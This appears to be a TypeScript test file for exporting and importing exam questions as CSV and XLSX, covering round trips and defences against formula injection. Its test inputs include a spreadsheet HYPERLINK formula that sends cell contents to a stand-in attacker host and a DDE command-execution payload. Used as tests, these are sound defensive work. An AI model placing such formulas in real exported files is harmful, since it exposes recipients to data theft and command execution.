import fc from "fast-check"
import { readXlsx } from "hucre/xlsx"
import { describe, expect, it } from "vitest"
import type { ExchangeQuestion } from "../question.ts"
import { everyQuestion, questionsOfRows } from "../questions.fixture.ts"
import { readCsv } from "./csv.ts"
import { csvFileOf, guarded, readOwnCsv, xlsxFileOf } from "./files.ts"
import { readTable } from "./read.ts"
import { writeTable } from "./write.ts"
import { readXlsxTable } from "./xlsx.ts"

const zh = (text: string) => ({ "zh-CN": text })
const question: ExchangeQuestion = {
  kind: "multiple",
  stem: zh("=1+1\n哪些？"),
  code: "000123",
  difficulty: 2,
  points: 150,
  level: "基本级",
  subject: "法律",
  tags: ["治安", "询问"],
  category: ["公安", "治安"],
  laws: [{ statute: "治安管理处罚法", version: "2025", article: "第四十三条" }],
  rationale: zh("@见；-教材"),
  options: ["A、甲", "B、乙", "C、丙", "D、丁"].map((text, at) => ({ text: zh(text), right: at < 2 })),
}
const cloze: ExchangeQuestion = {
  kind: "cloze",
  stem: {
    "zh-CN": [
      {
        kind: "paragraph",
        content: [
          { kind: "text", text: "罚款" },
          { kind: "blank", number: 1 },
        ],
      },
    ],
  },
  gaps: [
    {
      accepted: [
        { text: "500", credit: 100 },
        { text: "五百", credit: 100 },
      ],
      caseMatters: false,
    },
  ],
}

describe("a table of questions written", () => {
  it("comes back from CSV and from XLSX as it was (TR-07)", async () => {
    const written = writeTable([question, cloze], "zh-CN")
    expect(written.losses).toEqual([])
    const fromCsv = readTable(readOwnCsv(csvFileOf(written.content)), { locale: "zh-CN" })
    expect(fromCsv.questions.map((one) => one.question)).toEqual([question, cloze])
    const rows = []
    for await (const row of readXlsxTable(await xlsxFileOf(written.content, "题库"))) rows.push(row)
    expect(readTable(rows, { locale: "zh-CN" }).questions.map((one) => one.question)).toEqual([
      question,
      cloze,
    ])
  })

  const roundTrip = (given: ExchangeQuestion) => {
    const written = writeTable([given], "zh-CN")
    const report = readTable(readOwnCsv(csvFileOf(written.content)), { locale: "zh-CN" })
    return { written, faults: report.faults, read: report.questions.map((one) => one.question) }
  }

  it("comes back whole where a row can say it, whatever signs it is made of (TR-07)", () => {
    const whole = new Map<string, number>()
    fc.assert(
      fc.property(questionsOfRows(), (given) => {
        const { written, faults, read } = roundTrip(given)
        expect(faults).toEqual([])
        if (written.losses.length > 0) return
        whole.set(given.kind, (whole.get(given.kind) ?? 0) + 1)
        expect(read).toEqual([given])
      }),
      { numRuns: 400 },
    )
    // Otherwise nothing was shown: a kind that is always left out comes back whole, too.
    for (const kind of "single multiple indefinite true-false essay numeric short-text cloze".split(" ")) {
      expect([kind, whole.get(kind) ?? 0]).toEqual([kind, expect.toSatisfy((count: number) => count >= 5)])
    }
  })

  it("is named as lost where a row cannot say it, and loses no more the second time", () => {
    fc.assert(
      fc.property(everyQuestion(), (given) => {
        const { written, faults, read } = roundTrip(given)
        expect(faults).toEqual([])
        expect(read).toHaveLength(written.losses.some((loss) => loss.leftOut) ? 0 : 1)
        const again = writeTable(read, "zh-CN")
        expect(again.losses).toEqual([])
        expect(again.content).toEqual(written.content)
      }),
      { numRuns: 200 },
    )
  })

  it.each<[string, ExchangeQuestion, string]>([
    ["an ordering", { kind: "ordering", stem: zh("甲"), items: [] }, "kind"],
    ["a choice that cannot stand", { ...question, options: question.options.slice(0, 2) }, "content"],
    [
      "a gap whose answer holds the separator",
      { ...cloze, gaps: [{ accepted: [{ text: "a|b", credit: 100 }], caseMatters: false }] },
      "content",
    ],
    [
      "a partly right answer",
      { kind: "short-text", stem: zh("甲"), caseMatters: false, accepted: [{ text: "乙", credit: 50 }] },
      "content",
    ],
  ])("leaves out %s, and names it", (_what, given, code) => {
    const written = writeTable([given], "zh-CN")
    expect(written.content).toHaveLength(1)
    expect(written.losses).toEqual([expect.objectContaining({ at: 0, code, leftOut: true })])
  })
})

describe("a cell that begins like a formula", () => {
  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    '=HYPERLINK("http://evil.example"&A1)',
    "=cmd|'/c calc'!A1",
    "\tx",
    "\rx",
    "\0x",
  ])("%s gets an apostrophe in CSV (bad/E1)", (text) => {
    expect([...readCsv(csvFileOf([[text]]))][0]?.cells[0]).toMatch(/^'/)
    expect([...readOwnCsv(csvFileOf([[text]]))][0]?.cells).toEqual([text])
  })

  it.each([";=1+1", "甲,=1", "甲\n=1", "甲\t@x", '","=1', "甲|-1"])(
    "hides behind no separator: %j (bad/E2)",
    (text) => {
      expect(guarded(text)).not.toMatch(/(^|[;,\t\r\n|])[=+\-@]/)
      expect([...readOwnCsv(csvFileOf([[text]]))][0]?.cells).toEqual([text])
    },
  )

  it("is given back exactly, apostrophes of its own included", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."'=+-@＝;,\"\t\n|甲") }), (text) => {
        expect([...readOwnCsv(csvFileOf([[text]]))][0]?.cells).toEqual([text])
      }),
    )
  })

  it("is a string in XLSX, unaltered and without a formula, as numbers with zeros are (bad/E1, bad/E3)", async () => {
    const cells = ["=1+1", "@x", "007", "110101199003070011", "1945-08-15"]
    const book = await readXlsx(await xlsxFileOf([cells], "题"))
    expect(book.sheets[0]?.rows[0]).toEqual(cells)
    expect([...(book.sheets[0]?.cells?.values() ?? [])].some((cell) => cell.formula !== undefined)).toBe(
      false,
    )
  })
})
